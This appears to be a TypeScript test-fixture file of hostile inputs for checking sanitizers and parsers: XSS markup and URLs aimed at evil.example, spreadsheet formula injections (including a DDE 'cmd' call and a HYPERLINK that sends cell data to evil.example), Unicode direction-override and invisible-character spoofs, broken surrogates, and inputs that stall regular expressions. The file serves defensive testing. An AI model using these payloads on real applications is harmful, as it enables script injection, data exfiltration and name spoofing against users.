/** Texts that do harm where a program takes them for more than words. */

/** Each would run, load or leave the page, were it ever read as markup, as script or as an address. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  'a script element': '<script>window.harmed=1;alert(1)</script>',
  'an image that fails': '<img src=x onerror="window.harmed=1">',
  'an image from elsewhere': '<img src="https://evil.example/pixel.png">',
  'SVG that runs on load':
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed=1"><script>window.harmed=1</script></svg>',
  'an end of every element':
    '"\'></title></script></style></textarea></blockquote></svg>--><iframe src="https://evil.example/">',
  'a style sheet from elsewhere': '<style>@import "https://evil.example/x.css";*{display:none}</style>',
  'a javascript address': 'javascript:window.harmed=1',
  'a data address': 'data:text/html,<script>parent.harmed=1</script>',
  'a base and a form':
    '<base href="https://evil.example/"><form action="https://evil.example/"><button>Go</button></form>',
  'an entity that is not decoded': '&lt;img src=x onerror=window.harmed=1&gt;&#x3c;script&#x3e;',
  'a template': '\u0024{window.harmed=1}{{constructor.constructor("window.harmed=1")()}}<%= window.harmed %>',
  'an event attribute': '" onmouseover="window.harmed=1" onfocus="window.harmed=1" autofocus="',
  'a CDATA end': ']]><script>window.harmed=1</script><![CDATA[',
  'Markdown with a script': '[click](javascript:window.harmed=1) ![x](https://evil.example/x.png)',
};

/** Each a formula to one spreadsheet or another. */
export const FORMULAS: Readonly<Record<string, string>> = {
  'a command': "=cmd|' /C calc'!A0",
  'a link out': '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  'a plus': '+1+1',
  'a minus': '-2+3+cmd|calc!A0',
  'an at sign': '@SUM(1+1)',
  'behind a tab': '\t=1+1',
  'behind a line break': '\n=1+1',
  'a full-width equals sign': '＝1+1',
  'a quote before it': '"=1+1',
  'a cell that breaks out': 'x"\n=1+1,"=2+2',
  'a separator of elsewhere': 'x;=1+1;=2+2',
};

/** Names that pass for others, or turn the words beside them about. */
export const HIDDEN_MARKS: Readonly<Record<string, string>> = {
  'right-to-left override': 'Ann \u202Eeno\u202C One',
  'an override that is not closed': 'Ann\u202E One',
  'left-to-right override': '\u202DAnn One',
  embeddings: '\u202AAnn\u202B One\u202C\u202C',
  isolates: '\u2066Ann\u2067 One\u2069\u2068\u2069',
  'an isolate that is closed too often': 'Ann\u2069\u2069 One',
  'direction marks': '\u200EAnn\u200F One\u061C',
  'a space without width': 'An\u200Bn One',
  'joiners where nothing joins': 'An\u200Dn O\u200Cne',
  'a word joiner and a byte order mark': 'Ann\u2060 \uFEFFOne',
  'a soft hyphen': 'An\u00ADn One',
  tags: 'Ann One\u{E0041}\u{E007F}',
  'line and paragraph separators': 'Ann\u2028One\u2029',
  'a filler that is no space': 'Ann\u3164One\u115F',
  'invisible operators': 'Ann\u2062One\u2064',
  'a variation selector on nothing': 'A\uFE0Fnn One',
};

/** Halves of characters, and controls: they are in no text that anybody wrote. */
export const NO_TEXT: Readonly<Record<string, string>> = {
  controls: 'Ann\u0000\u0007\u001B[31m\u007F\u0085One',
  'a high half': 'Ann \uD83D One',
  'a low half': 'Ann \uDE00 One',
  'both, the wrong way round': 'Ann \uDE00\uD83D One',
  'a half at the end': 'Ann One\uD83D',
};

/** What stalls a pattern that goes back over what it has read, or a search that does more than look. */
export const SLOW_SEARCHES: Readonly<Record<string, string>> = {
  'many a': 'a'.repeat(30_000),
  'many a and a mark': `${'a'.repeat(30_000)}!`,
  'a nested repetition': `(${'(a+)+'.repeat(400)})$`,
  alternatives: '(a|aa)+'.repeat(2000),
  'many dots': '.*'.repeat(5000),
  'many blanks': `${' '.repeat(50_000)}x`,
  'many quotation marks': '"'.repeat(20_000),
  'many open phrases': '“the '.repeat(5000),
  'one long phrase': `"${'the '.repeat(5000)}"`,
  'many words': 'bajwa '.repeat(5000),
  'many different words': Array.from({ length: 5000 }, (_, number) => `w${number.toString(36)}`).join(' '),
  'many accents': `a${'\u0301'.repeat(20_000)}`,
  'many halves': '\uD800'.repeat(10_000),
  'many letters that are words': '한'.repeat(10_000),
  'hidden marks': '\u202E\u200B'.repeat(5000),
};
